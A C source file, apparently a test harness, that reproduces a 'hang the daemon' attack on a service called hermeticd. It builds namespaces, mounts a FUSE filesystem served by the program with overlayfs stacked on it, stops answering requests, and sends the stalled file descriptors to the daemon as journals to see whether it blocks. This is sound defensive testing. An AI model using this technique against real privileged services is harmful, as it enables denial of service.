// SPDX-License-Identifier: MIT
/*
 * The "hang the daemon" attack (issue 10), as an unprivileged user: in a
 * user and mount namespace of its own, mount a FUSE filesystem served by
 * this program, stack overlayfs on it, open a file on each, then stop
 * answering FUSE requests and hand both descriptors to hermeticd as
 * journals (JOURNAL_STORE). A daemon that so much as fstat()s or
 * fstatfs()es such a file waits forever for this program.
 *
 *   fuse_hang SOCKET DIR     (DIR: an empty directory of the caller's)
 *
 * Prints "armed", then one line per descriptor: "STORE fuse|overlay ->
 * ERR <errno> <msg>", "-> OK" or "-> TIMEOUT" (no answer within 10 s),
 * then "DONE". Exit 2: the attack could not be set up (says why).
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <linux/fuse.h>
#include "proto.h"

static int fuse_fd;
static volatile bool armed; /* once set: answer nothing ever again */

static void reply(uint64_t unique, int err, const void *p, size_t n)
{
	char buf[4096];
	struct fuse_out_header *o = (void *)buf;

	o->len = sizeof(*o) + n;
	o->error = err;
	o->unique = unique;
	memcpy(buf + sizeof(*o), p, n);
	if (write(fuse_fd, buf, o->len) < 0) {
		/* the kernel may have given up on the request */
	}
}

static void attr(struct fuse_attr *a, uint64_t ino)
{
	memset(a, 0, sizeof(*a));
	a->ino = ino;
	a->mode = ino == FUSE_ROOT_ID ? S_IFDIR | 0755 : S_IFREG | 0644;
	a->nlink = 1;
	a->size = ino == FUSE_ROOT_ID ? 0 : 4096;
	a->blksize = 4096;
}

static void *serve(void *arg)
{
	static char buf[1 << 20];

	for (;;) {
		ssize_t n = read(fuse_fd, buf, sizeof(buf));
		struct fuse_in_header *in = (void *)buf;

		if (n < 0 && errno == EINTR)
			continue;
		if (n < (ssize_t)sizeof(*in))
			return NULL;
		if (armed)
			continue; /* the request waits forever */
		switch (in->opcode) {
		case FUSE_INIT: {
			struct fuse_init_out o = { .major = FUSE_KERNEL_VERSION,
						   .minor = FUSE_KERNEL_MINOR_VERSION,
						   .max_readahead = 65536,
						   .max_background = 16,
						   .congestion_threshold = 12,
						   .max_write = 65536,
						   .time_gran = 1 };
			reply(in->unique, 0, &o, sizeof(o));
			break;
		}
		case FUSE_LOOKUP: {
			const char *name = buf + sizeof(*in);
			struct fuse_entry_out o = { .nodeid = 2, .generation = 1, .entry_valid = 100 };

			if (in->nodeid != FUSE_ROOT_ID || strcmp(name, "j")) {
				reply(in->unique, -ENOENT, NULL, 0);
				break;
			}
			attr(&o.attr, 2); /* attr_valid 0: every stat asks again */
			reply(in->unique, 0, &o, sizeof(o));
			break;
		}
		case FUSE_GETATTR: {
			struct fuse_attr_out o = {};

			attr(&o.attr, in->nodeid);
			reply(in->unique, 0, &o, sizeof(o));
			break;
		}
		case FUSE_OPEN:
		case FUSE_OPENDIR: {
			struct fuse_open_out o = { .fh = 1 };

			reply(in->unique, 0, &o, sizeof(o));
			break;
		}
		case FUSE_STATFS: {
			struct fuse_statfs_out o = { .st = { .bsize = 4096, .namelen = 255, .frsize = 4096 } };

			reply(in->unique, 0, &o, sizeof(o));
			break;
		}
		case FUSE_RELEASE:
		case FUSE_RELEASEDIR:
		case FUSE_FLUSH:
			reply(in->unique, 0, NULL, 0);
			break;
		case FUSE_GETXATTR:
		case FUSE_LISTXATTR:
			reply(in->unique, -ENODATA, NULL, 0);
			break;
		case FUSE_FORGET:
		case FUSE_BATCH_FORGET:
			break; /* no reply */
		default:
			reply(in->unique, -ENOSYS, NULL, 0);
		}
	}
}

static void write_file(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, s, strlen(s)) < 0) {
		fprintf(stderr, "%s: %s\n", path, strerror(errno));
		exit(2);
	}
	close(fd);
}

static int sock;

static void try_store(const char *what, int fd)
{
	struct {
		struct hm_run_create c;
	} req = { .c = { .flags = HM_RUN_NET_ENFORCE } };
	static char buf[HM_MSG_MAX];
	struct hm_journal_store st = {};
	struct hm_hdr *h;
	struct pollfd p = { .fd = sock, .events = POLLIN };
	int rfd;
	ssize_t n;

	snprintf(req.c.label, sizeof(req.c.label), "fuse_hang");
	if (hm_send(sock, HM_REQ_RUN_CREATE, 1, &req, sizeof(req), -1) < 0 ||
	    hm_recv(sock, buf, sizeof(buf), &h, &rfd) < 0 || h->type != HM_REP_RUN) {
		printf("STORE %s -> no run: %s\n", what,
		       h && h->type == HM_REP_ERROR ? ((struct hm_error *)(h + 1))->msg : "?");
		return;
	}
	close(rfd);
	st.run_id = ((struct hm_run *)(h + 1))->run_id;
	if (hm_send(sock, HM_REQ_JOURNAL_STORE, 2, &st, sizeof(st), fd) < 0) {
		printf("STORE %s -> send failed\n", what);
		return;
	}
	if (poll(&p, 1, 10000) != 1) {
		printf("STORE %s -> TIMEOUT\n", what);
		return;
	}
	n = hm_recv(sock, buf, sizeof(buf), &h, &rfd);
	if (n < 0)
		printf("STORE %s -> recv %s\n", what, strerror(-n));
	else if (h->type == HM_REP_ERROR)
		printf("STORE %s -> ERR %d %s\n", what, ((struct hm_error *)(h + 1))->err,
		       ((struct hm_error *)(h + 1))->msg);
	else
		printf("STORE %s -> OK\n", what);
	fflush(stdout);
}

int main(int argc, char **argv)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	char map[64], opts[600], path[300];
	const char *dir;
	uid_t uid = getuid();
	gid_t gid = getgid();
	pthread_t t;
	int ffd, ofd;

	if (argc != 3)
		return 2;
	dir = argv[2];
	/* Connect before leaving the initial namespaces (the path is the same
	 * inside, but say so plainly). */
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", argv[1]);
	sock = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
	if (connect(sock, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		perror("connect");
		return 2;
	}
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
		perror("unshare");
		return 2;
	}
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", (unsigned)uid);
	write_file("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "0 %u 1", (unsigned)gid);
	write_file("/proc/self/gid_map", map);
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ||
	    mount("tmpfs", dir, "tmpfs", 0, "mode=0755") < 0) {
		perror("mount tmpfs");
		return 2;
	}
	snprintf(path, sizeof(path), "%s/f", dir);
	mkdir(path, 0755);
	snprintf(path, sizeof(path), "%s/empty", dir);
	mkdir(path, 0755);
	snprintf(path, sizeof(path), "%s/o", dir);
	mkdir(path, 0755);
	fuse_fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	if (fuse_fd < 0) {
		perror("/dev/fuse");
		return 2;
	}
	snprintf(opts, sizeof(opts), "fd=%d,rootmode=40000,user_id=0,group_id=0", fuse_fd);
	snprintf(path, sizeof(path), "%s/f", dir);
	if (mount("hmfuse", path, "fuse", MS_NOSUID | MS_NODEV, opts) < 0) {
		perror("mount fuse");
		return 2;
	}
	/* Only now: /dev/fuse cannot be read before the mount. */
	pthread_create(&t, NULL, serve, NULL);
	{
		/* The connection's number in fusectl: the test's cleanup can
		 * abort it should anything be left waiting on it. */
		struct stat st;

		if (stat(path, &st) == 0)
			printf("conn %u\n", minor(st.st_dev));
		fflush(stdout);
	}
	snprintf(opts, sizeof(opts), "lowerdir=%s/f:%s/empty", dir, dir);
	snprintf(path, sizeof(path), "%s/o", dir);
	if (mount("overlay", path, "overlay", 0, opts) < 0) {
		perror("mount overlay");
		return 2;
	}
	snprintf(path, sizeof(path), "%s/f/j", dir);
	ffd = open(path, O_RDONLY | O_CLOEXEC);
	snprintf(path, sizeof(path), "%s/o/j", dir);
	ofd = open(path, O_RDONLY | O_CLOEXEC);
	if (ffd < 0 || ofd < 0) {
		perror("open");
		return 2;
	}
	armed = true; /* from now on every FUSE request waits forever */
	printf("armed\n");
	fflush(stdout);
	try_store("fuse", ffd);
	try_store("overlay", ofd);
	/* Answer again, so that closing the files at exit (FUSE_FLUSH) does
	 * not wait on this very program. Requests dropped while armed wait
	 * until the FUSE connection goes away with the process. */
	armed = false;
	close(ffd);
	close(ofd);
	printf("DONE\n");
	return 0;
}
